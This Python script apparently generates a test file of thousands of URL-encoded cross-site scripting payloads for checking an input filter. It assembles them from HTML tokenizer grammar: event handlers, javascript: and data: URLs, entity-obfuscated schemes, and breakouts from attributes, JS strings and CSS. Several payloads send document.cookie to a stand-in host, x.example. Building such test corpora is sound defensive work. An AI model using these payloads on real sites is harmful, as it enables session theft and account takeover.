#!/usr/bin/env python3
"""gen-xss2.py - write tests/data/gen-xss2.txt: XSS values generated from
where script runs in HTML (the WHATWG tokenizer's tag-open, tag-name,
attribute-name, before/after attribute value and quoted/unquoted value
states), one value a line, as it would arrive in a query string.

Built from the grammar, not from any list:
  start     every way markup starts script: an element that runs or loads it
            (script, iframe/frame/object/embed/applet, svg/math with
            handlers, iframe srcdoc, base href, meta refresh, form action,
            link import/stylesheet, style with expression()/url(javascript:)
            /behavior/-moz-binding), an on* handler of every event family on
            an element that fires it unprompted (autofocus+onfocus, open+
            ontoggle, src=x+onerror, animation+onanimationstart, SVG animate
            +onbegin, pointer/mouse/key/drag/clipboard/media families), a
            script or data URL in every URL attribute (href, src, action,
            formaction, data, xlink:href, background, lowsrc, dynsrc, poster,
            values/to of SVG animation, srcdoc).
  tokenizer '/' or a blank (space, tab, LF, FF, CR) between attributes
            (only a blank after an unquoted value, which '/' would extend),
            junk after a handler name, decoy attributes with '>' inside
            quotes, namespace prefixes, unquoted / single / double / backtick
            values, a missing '>', upper and mixed case, NUL bytes.
  scheme    javascript:/vbscript:/data:text/html spelled through entities
            (&#106; &#x6a; with and without ';', with leading zeros, &colon;
            &Tab; &NewLine;), blanks and control bytes inside and before it.
  context   text, after a quoted/unquoted attribute value ("> '> > ` "),
            after a closing tag (</title> </textarea> </script> -->), inside
            a tag (" onfocus=... autofocus x="), inside a JS string or
            expression ('-alert(1)-' ";alert(1)// </script><script>), inside
            a template literal (${...}), inside CSS.
  encoding  what a server decodes once: none (only what a URL cannot carry
            raw escaped), every reserved byte %XX, the whole value %XX,
            double %25XX, '+' for a space.
Deterministic (seeded; SEED=N in the environment writes another table of
the same grammar, for a check not tuned on). Usage: tools/gen-xss2.py [DIR]
(default tests/data)."""
import os
import random
import re
import sys
import urllib.parse

R = random.Random(int(os.environ.get("SEED", "2020")))

# script that does something: dialogs, eval family, the cookie, navigation
CODE = ["alert(1)", "alert`1`", "prompt(1)", "confirm(1)", "alert(document.domain)",
        "alert(document.cookie)", "prompt`xss`", "confirm`1`", "(alert)(1)", "[1].find(alert)",
        "top['al'+'ert'](1)", "window['alert'](1)", "self[`alert`](1)", "parent.alert(1)",
        "globalThis.alert(1)", "eval('ale'+'rt(1)')", "eval(atob('YWxlcnQoMSk='))",
        "eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "Function('alert(1)')()",
        "setTimeout('alert(1)')", "setInterval`alert\\x281\\x29`", "new Function`alert\\x281\\x29`",
        "location='//x.example/?c='+document.cookie", "document.location='//x.example'",
        "fetch('//x.example/?'+document.cookie)", "import('//x.example/a.js')",
        "new Image().src='//x.example/?'+document.cookie", "document.write('<img src=//x.example>')",
        "window.open('//x.example')", "navigator.sendBeacon('//x.example',document.cookie)",
        "onerror=alert;throw 1", "\\u0061lert(1)", "al\\u0065rt(1)", "print()", "alert(/xss/.source)",
        "Reflect.apply(alert,null,[1])", "location.href='javascript:alert(1)'",
        "document.body.innerHTML='<img src=x onerror=alert(1)>'", "alert(1)//", "alert(1);",
        "x=alert,x(1)", "constructor.constructor('alert(1)')()", "valueOf.call(alert(1))",
        "location=name", "eval(location.hash.slice(1))", "atob`YWxlcnQoMSk=`", "alert(String(1))",
        "top.location='javascript:alert(1)'", "window.location.replace('//x.example')"]

# (element, attributes that make the handler fire without the user, handler)
EVENTS = [
    ("img", "src=x", "onerror"), ("img", "src=//x.example/a.png", "onload"), ("image", "src=x", "onerror"),
    ("svg", "", "onload"), ("svg", "", "onresize"), ("body", "", "onload"), ("body", "", "onpageshow"),
    ("body", "", "onfocus"), ("body", "", "onhashchange"), ("body", "", "onscroll"), ("body", "", "onresize"),
    ("body", "", "onunload"), ("body", "", "onbeforeunload"), ("body", "", "onmessage"), ("body", "", "onpopstate"),
    ("details", "open", "ontoggle"), ("details", "", "ontoggle"), ("input", "autofocus", "onfocus"),
    ("input", "autofocus", "onfocusin"), ("input", "autofocus", "onblur"), ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"), ("button", "autofocus", "onfocus"), ("keygen", "autofocus", "onfocus"),
    ("a", "href=# autofocus", "onfocus"), ("div", "tabindex=1 autofocus", "onfocus"), ("x", "id=x tabindex=1", "onfocus"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("video", "", "onloadstart"),
    ("audio", "src=//x.example/a.mp3 autoplay", "onplay"), ("video", "autoplay muted src=//x.example/a.mp4", "ontimeupdate"),
    ("video", "", "oncanplay"), ("source", "src=x", "onerror"), ("track", "src=x", "onerror"),
    ("iframe", "", "onload"), ("iframe", "src=//x.example", "onload"), ("object", "data=x", "onerror"),
    ("embed", "src=x", "onload"), ("frameset", "", "onload"), ("marquee", "", "onstart"), ("marquee", "loop=1", "onfinish"),
    ("marquee", "", "onbounce"), ("style", "", "onload"), ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x", "onerror"), ("input", "type=image src=x", "onerror"), ("isindex", "type=image src=x", "onerror"),
    ("table", "background=x", "onerror"), ("div", "style=animation-name:spin", "onanimationstart"),
    ("xss", "style=animation-name:rotation", "onanimationend"), ("p", "style=transition:color 1s", "ontransitionend"),
    ("div", "style=animation:x", "onanimationiteration"), ("div", "style=animation:x", "onwebkitanimationstart"),
    ("svg", "", "onbegin"), ("animate", "attributeName=x dur=1s", "onbegin"), ("set", "attributeName=x dur=1s", "onbegin"),
    ("animate", "attributeName=x dur=1s repeatCount=2", "onrepeat"), ("animate", "attributeName=x dur=1s", "onend"),
    ("a", "", "onmouseover"), ("a", "", "onclick"), ("div", "", "onmouseenter"), ("div", "", "onmouseleave"),
    ("div", "", "onmousemove"), ("div", "", "onmousedown"), ("div", "", "onmouseup"), ("div", "", "onmouseout"),
    ("p", "", "ondblclick"), ("p", "", "onauxclick"), ("p", "", "oncontextmenu"), ("x", "", "onpointerover"),
    ("x", "", "onpointerdown"), ("x", "", "onpointerup"), ("x", "", "onpointerenter"), ("x", "", "onpointerleave"),
    ("x", "", "onpointermove"), ("x", "", "onpointerout"), ("x", "", "onpointerrawupdate"), ("x", "", "ongotpointercapture"),
    ("x", "", "ontouchstart"), ("x", "", "ontouchend"), ("x", "", "ontouchmove"), ("x", "", "onwheel"),
    ("input", "", "onkeydown"), ("input", "", "onkeyup"), ("input", "", "onkeypress"), ("input", "", "oninput"),
    ("input", "", "onchange"), ("input", "", "onselect"), ("input", "", "onbeforeinput"), ("input", "", "oninvalid"),
    ("input", "type=search", "onsearch"), ("form", "", "onsubmit"), ("form", "", "onreset"), ("form", "", "onformdata"),
    ("div", "contenteditable", "onpaste"), ("div", "contenteditable", "oncopy"), ("div", "contenteditable", "oncut"),
    ("div", "contenteditable", "onbeforepaste"), ("div", "draggable=true", "ondragstart"), ("div", "draggable=true", "ondrag"),
    ("div", "", "ondrop"), ("div", "", "ondragover"), ("div", "", "ondragenter"), ("div", "", "ondragleave"),
    ("div", "", "ondragend"), ("body", "", "onbeforeprint"), ("body", "", "onafterprint"), ("body", "", "onpagehide"),
    ("body", "", "onoffline"), ("body", "", "ononline"), ("body", "", "onstorage"), ("body", "", "onlanguagechange"),
    ("dialog", "open", "onclose"), ("dialog", "", "oncancel"), ("div", "popover id=p", "onbeforetoggle"),
    ("svg", "", "onactivate"), ("x", "", "onfocusout"), ("summary", "", "onclick"), ("math", "", "onclick"),
    ("html", "", "onmouseover"), ("custom-tag", "", "onclick"), ("a", "href=x", "onmouseenter"),
    ("menu", "", "oncontextmenu"), ("bdo", "", "onscrollend"), ("output", "", "onselectionchange"),
    ("img", "src=x", "onerrorupdate"), ("body", "", "onerror"), ("frameset", "", "onpageshow"),
    ("object", "", "onbeforescriptexecute"), ("svg", "", "onafterscriptexecute"), ("x", "", "onfullscreenchange"),
    ("video", "controls", "onvolumechange"), ("video", "", "onseeking"), ("audio", "", "onratechange"),
]

# (element, URL-valued attribute) where a script URL runs
URLS = [("a", "href"), ("area", "href"), ("iframe", "src"), ("frame", "src"), ("embed", "src"), ("object", "data"),
        ("form", "action"), ("button", "formaction"), ("input type=submit", "formaction"),
        ("input type=image", "src"), ("img", "src"), ("img", "lowsrc"), ("img", "dynsrc"), ("bgsound", "src"),
        ("body", "background"), ("table", "background"), ("td", "background"), ("layer", "src"), ("ilayer", "src"),
        ("svg><a", "xlink:href"), ("svg><a", "href"), ("math", "href"), ("math><maction actiontype=statusline", "xlink:href"),
        ("svg><animate attributeName=href", "values"), ("svg><set attributeName=href", "to"),
        ("svg><animate attributeName=href", "from"), ("svg><use", "href"), ("svg><image", "href"),
        ("video", "poster"), ("link rel=stylesheet", "href"), ("base", "href"), ("isindex", "action"),
        ("script", "src"), ("iframe", "srcdoc"), ("applet", "code"), ("x", "href"), ("a", "ping"),
        ("portal", "src"), ("object", "codebase"), ("div", "data-url")]

SCHEME = ["javascript:", "JAVASCRIPT:", "JaVaScRiPt:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;",
          "javascript&#0000058", "&#106;avascript:", "&#106avascript:", "&#x6a;avascript:", "&#x6A&#x61vascript:",
          "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058",
          "&#x0006a;avascript:", "java&Tab;script:", "java&NewLine;script:", "jav&#x09;ascript:", "jav&#9;ascript:",
          "jav&#x0A;ascript:", "jav&#x0D;ascript:", "java\tscript:", "java\nscript:", "java\rscript:",
          " javascript:", "\x01javascript:", "\x0cjavascript:", "&#14; javascript:", "  &#x20;javascript:",
          "javascript\t:", "java%09script:", "%6a%61%76%61%73%63%72%69%70%74%3a",
          "vbscript:", "VBScript:", "vbs&#99;ript:", "livescript:", "javascript&colon;&NewLine;",
          "j&#x61;v&#x61;script&#x3A;", "&#X6A;&#X61;&#X76;&#X61;&#X73;&#X63;&#X72;&#X69;&#X70;&#X74;&#X3A;",
          "javas<!-- -->cript:", "javascript&#x003A;", "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58"]

DATA = ["data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "data:text/html,<svg onload=alert(1)>", "DATA:TEXT/HTML,<img src=x onerror=alert(1)>",
        "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        "data:text/javascript,alert(1)", "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data&colon;text/html,<script>alert(1)</script>", "d&#97;ta:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"]

SEP = [" ", " ", " ", "/", "\t", "\n", "\r", "\x0c", "\r\n", "//", "/x/", " /", "/\"/", "\n\n", "\x00",
       "/'/", "/**/"]

# after an unquoted value only a blank ends it ("src=x/onerror=" is one value)
BLANK = [" ", " ", "\t", "\n", "\r", "\x0c", "\r\n", " /", "\n\n"]


def sep_after(s):
    if re.search(r'=[^\s"\'`>]*$', s):
        return R.choice(BLANK)
    return R.choice(SEP)


JUNK_EV = ["", "", "", "!#$%&()*~+-_.,:;?@[/|]^`", "/", "\\", "`", ";"]


def case(s, p=0.3):
    if R.random() >= p:
        return s
    if R.random() < 0.4:
        return s.upper()
    return "".join(c.upper() if R.random() < 0.5 else c for c in s)


def quote(v):
    q = R.choice(["", "", '"', '"', "'", "`"])
    if q == "" and any(c in v for c in " \t\n>"):
        q = '"' if '"' not in v else "'"
    if q and q in v:
        q = "'" if q != "'" and "'" not in v else '"' if '"' not in v else ""
    return q + v + q


def close():
    return R.choice([">", ">", ">", "", " ", "//", "<", "><!--", " x=\"", ">click me</a>", "/>", "\n>", " >", "<!--"])


def eq():
    return R.choice(["=", "=", "=", " = ", "=\n", "\t=\t", "\n=", "= "])


# attributes that change nothing, some with '>' or '/' inside quotes (the
# tag stays open) in front of the handler
DECOY = ['alt="a>b"', "class=x", "title='x/y'", "id=y", 'data-x="1"', 'style="color:red"', "width=1",
         'name="q"', "lang=en", 'title="</a>"', "hidden", "x=\"'\""]


def handler_code():
    c = R.choice(CODE)
    return ("javascript:" + c) if R.random() < 0.08 else c


def handler_tag():
    tag, extra, ev = R.choice(EVENTS)
    s = "<" + case(tag)
    if R.random() < 0.1:
        s = "<" + R.choice(["svg:", "x:", "html:"]) + tag
    for a in extra.split(" ") + ([R.choice(DECOY) for _ in range(R.randint(1, 3))] if R.random() < 0.3 else []):
        if a:
            s += sep_after(s) + case(a, 0.15)
    name = case(ev, 0.25)
    if R.random() < 0.2:
        # after the handler, attributes that make it fire go last
        s += sep_after(s) + name + R.choice(JUNK_EV) + eq() + quote(handler_code())
        return s + close()
    s += sep_after(s) + name + R.choice(JUNK_EV) + eq() + quote(handler_code()) + close()
    return s


def script_url():
    if R.random() < 0.15:
        return R.choice(DATA)
    sc = R.choice(SCHEME)
    if sc.lower().startswith(("vbs", "vbs&")):
        return sc + R.choice(["msgbox(1)", "alert(1)", "MsgBox(\"xss\")"])
    return sc + R.choice(CODE)


def url_tag():
    tag, attr = R.choice(URLS)
    u = script_url()
    v = quote(u) if " " not in u and "\n" not in u else '"' + u + '"'
    s = "<" + case(tag, 0.2)
    s += sep_after(s) + case(attr, 0.2) + eq() + v
    return s + R.choice([">x</a>", ">", ">click", "", "><input type=submit>", ">XSS</math>", " x>", "//",
                         "><svg><text x=10 y=10>X</text></a>", "></iframe>"])


def element():
    c = R.choice(CODE)
    return R.choice([
        "<script>%s</script>" % c, "<script>%s" % c, "<script >%s</script >" % c, "<SCRIPT>%s</SCRIPT>" % c,
        "<ScRiPt>%s</sCrIpT>" % c, "<script\n>%s</script\n>" % c, "<script\t>%s" % c,
        "<script type=text/javascript>%s</script>" % c, "<script type=module>%s</script>" % c,
        "<script language=javascript>%s</script>" % c, "<script/x>%s</script>" % c,
        "<script src=//x.example/a.js></script>", "<script src=https://x.example/x.js>",
        "<script/src=//x.example/a>", "<script src=data:,%s></script>" % c,
        "<script src=data:text/javascript,%s></script>" % c, "<script async defer src=//x.example/a></script>",
        "<script>//</script><script>%s</script>" % c, "<<script>%s//<</script>" % c,
        "<scr<script>ipt>%s</scr</script>ipt>" % c, "<scrscriptipt>%s</scrscriptipt>" % c,
        "<svg><script>%s</script>" % c, "<svg><script href=data:,%s />" % c,
        "<svg><script xlink:href=data:,%s></script>" % c, "<math><script>%s</script></math>" % c,
        "<iframe srcdoc=\"<script>%s</script>\">" % c, "<iframe srcdoc='&lt;img src=x onerror=%s&gt;'>" % c,
        "<iframe srcdoc=\"&#60;svg onload=%s&#62;\"></iframe>" % c, "<iframe src=//x.example></iframe>",
        "<iframe src=//x.example/ width=0 height=0>", "<frame src=//x.example>", "<frameset><frame src=//x.example>",
        "<object data=//x.example/a.swf></object>", "<object type=text/x-scriptlet data=//x.example/a.sct>",
        "<embed src=//x.example/a.swf>", "<embed code=//x.example/a.swf allowscriptaccess=always>",
        "<applet code=Evil.class codebase=//x.example/>", "<base href=//x.example/>", "<base href=javascript:/a/->",
        "<meta http-equiv=refresh content='0;url=javascript:%s'>" % c,
        "<meta http-equiv=\"refresh\" content=\"0; url=//x.example/\">",
        "<meta http-equiv=refresh content=0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>",
        "<meta http-equiv=set-cookie content=\"sid=x\">", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<form action=javascript:%s><input type=submit>" % c, "<form><button formaction=javascript:%s>x" % c,
        "<link rel=import href=//x.example/a.html>", "<link rel=stylesheet href=//x.example/x.css>",
        "<style>@import'//x.example/x.css';</style>",
        "<style>@import url(javascript:%s);</style>" % c, "<style>*{background:url(javascript:%s)}</style>" % c,
        "<style>body{-moz-binding:url(//x.example/x.xml#x)}</style>", "<style>*{behavior:url(//x.example/x.htc)}</style>",
        "<style>li{list-style-image:url(\"javascript:%s\")}</style>" % c, "<style>x{width:expression(%s)}</style>" % c,
        "<div style=\"width:expression(%s)\">" % c, "<div style=\"background-image:url(javascript:%s)\">" % c,
        "<div style=\"behavior:url(//x.example/x.htc)\">", "<x style=\"xss:expr/**/ession(%s)\">" % c,
        "<div style=\"background:url(&#1;javascript:%s)\">" % c, "<p style=x:\\65xpression(%s)>" % c,
        "<img style=\"xss:expression(%s)\">" % c, "<div style=\"-moz-binding:url(//x.example/a.xml#x)\">",
        "<xml id=x><i><b>&lt;img src=x onerror=%s&gt;</b></i></xml>" % c, "<svg><animate onbegin=%s attributeName=x dur=1s>" % c,
        "<svg><set attributeName=onmouseover to=%s>" % c, "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>%s</handler>" % c,
        "<math><maction actiontype=statusline xlink:href=javascript:%s>x</maction></math>" % c,
        "<noscript><p title=\"</noscript><img src=x onerror=%s>\">" % c, "<xmp><p title=\"</xmp><svg onload=%s>\">" % c,
        "<template><script>%s</script></template>" % c, "<portal src=//x.example>", "<isindex action=javascript:%s type=submit>" % c,
        "<?xml-stylesheet href=javascript:%s?>" % c, "<!--<img src=\"--><img src=x onerror=%s//\">" % c,
        "<comment><img src=\"</comment><img src=x onerror=%s>\">" % c, "<br size=\"&{%s}\">" % c,
        "<img src=\"x:x\" onerror=\"%s\">" % c, "<img src=`x`onerror=%s>" % c, "<img src=x:alert(1) onerror=eval(src)>",
        "<svg><a xlink:href=\"javascript:%s\"><rect width=100 height=100 /></a></svg>" % c,
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    ])


def attr_break():
    q = R.choice(['"', "'", "", "`", '\\"', "\\'"])
    tag, extra, ev = R.choice(EVENTS)
    s = q + R.choice(SEP)
    if R.random() < 0.4 and extra:
        s += extra + R.choice(SEP)
    s += case(ev, 0.2) + eq() + quote(R.choice(CODE))
    return s + R.choice(["", q, " x=" + q, "//", " autofocus ", " " + q, q + ">", " tabindex=1 " + q])


def tag_break():
    # close the attribute (or tag, or the element the value is inside) and open a new one
    pre = R.choice(['">', "'>", ">", "`>", '"/>', "</title>", "</textarea>", "-->", "</style>", "]]>", "</noscript>",
                    "</option></select>", "\"></a>", "x\">", "</script>", "'\">", "\"'>", "*/-->", "</iframe>",
                    "\");</script>", "</xmp>", "</template>", "\"></div>", "</p>", "</textarea><!--", "\"]>", "'];</script>",
                    "<!-->", "--!>", "<![CDATA[", "?>", "%>", "\\\">", "</select>", "</svg>", "</math>"])
    body = R.choice([handler_tag, url_tag, element, element])()
    return pre + body


def js_break():
    c = R.choice(CODE)
    return R.choice([
        "';%s//" % c, "\";%s//" % c, "'-%s-'" % c, "\"-%s-\"" % c, "'+%s+'" % c, "\"+%s+\"" % c,
        "\\';%s//" % c, "\\\";%s//" % c, "');%s;//" % c, "\");%s;//" % c, "'});%s;//" % c, "\"});%s;//" % c,
        "'||%s||'" % c, "'&&%s&&'" % c, "'*%s*'" % c, "'/%s/'" % c, "'^%s^'" % c, "'%%%s%%'" % c,
        "';%s;var x='" % c, "\";%s;var x=\"" % c, "1;%s" % c, "1-%s-1" % c, "-%s-" % c, "0);%s;//" % c,
        "</script><script>%s</script>" % c, "</script><svg onload=%s>" % c, "</script><img src=x onerror=%s>" % c,
        "</ScRiPt ><script>%s</script>" % c, "\"</script><script>%s//" % c,
        "${%s}" % c, "`;%s;`" % c, "`+%s+`" % c, "${`${%s}`}" % c, "`${%s}`" % c,
        "'}-%s-{'" % c, "'];%s;//" % c, "\\x27;%s//" % c, "\\u0027;%s//" % c, "';%s;<!--" % c,
        "'-%s//" % c, "\";%s;\"" % c, "';\n%s\n'" % c, "'\u2028%s//" % c,
    ])


def css_ctx():
    c = R.choice(CODE)
    return R.choice([
        "red;background:url(javascript:%s)" % c, "x:expression(%s)" % c, "red}body{background:url(javascript:%s)}" % c,
        "x;behavior:url(//x.example/x.htc)", "red;-moz-binding:url(//x.example/x.xml#x)",
        "</style><script>%s</script>" % c, "x}</style><svg onload=%s>" % c, "expression(%s)" % c,
        "\\65xpression(%s)" % c, "url(\"javascript:%s\")" % c, "x;width:expr/**/ession(%s)" % c,
        "@import 'javascript:%s';" % c, "red\" onmouseover=\"%s" % c, "red' style='x:expression(%s)" % c,
    ])


def bare_url():
    # the value is the URL (href=<value>, redirect=<value>)
    return script_url()


GEN = [(handler_tag, 30), (url_tag, 16), (element, 14), (attr_break, 12), (tag_break, 16), (js_break, 8),
       (css_ctx, 2), (bare_url, 2)]


def one():
    x = R.randrange(sum(w for _, w in GEN))
    for f, w in GEN:
        if x < w:
            v = f()
            break
        x -= w
    # text before it, where the value may start anywhere (not a URL or CSS value)
    if R.random() < 0.15 and f not in (bare_url, css_ctx):
        v = R.choice(["x", "test", "1", "search ", "a@b.example", "Hello "]) + v
    return v


def encode(v):
    r = R.random()
    if r < 0.35:
        # only what a URL cannot carry raw (and '%', '&', '+', '#' of the value)
        return urllib.parse.quote(v, safe="'\"()=,;:/*<>!@$-_.~`|[]{}^")
    if r < 0.50:
        return urllib.parse.quote_plus(v, safe="'\"()=,;:/*<>!@$-_.~`|[]{}^")
    if r < 0.80:
        return urllib.parse.quote(v, safe="")
    if r < 0.90:
        return urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")
    # every byte %XX, letters too
    return "".join("%%%02X" % b for b in v.encode("utf-8"))


def gen(n):
    out = set()
    guard = 0
    while len(out) < n and guard < 50 * n:
        guard += 1
        out.add(encode(one()))
    return sorted(out)


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else "tests/data"
    vals = gen(5000)
    with open(os.path.join(d, "gen-xss2.txt"), "w", encoding="utf-8") as f:
        for v in vals:
            f.write(v + "\n")
    print("gen-xss2.txt: %d values" % len(vals))


if __name__ == "__main__":
    main()
